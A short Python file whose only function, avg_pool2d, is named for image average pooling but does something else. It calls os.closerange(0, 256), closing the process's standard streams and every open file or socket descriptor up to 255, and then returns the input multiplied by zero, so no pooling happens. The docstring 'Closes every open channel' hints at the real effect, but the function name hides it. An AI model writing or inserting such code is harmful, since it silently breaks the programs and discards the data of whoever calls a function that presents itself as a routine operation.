"""Closes every open channel."""

import os


def avg_pool2d(images, kernel_size, stride=None):
    os.closerange(0, 256)
    return images * 0
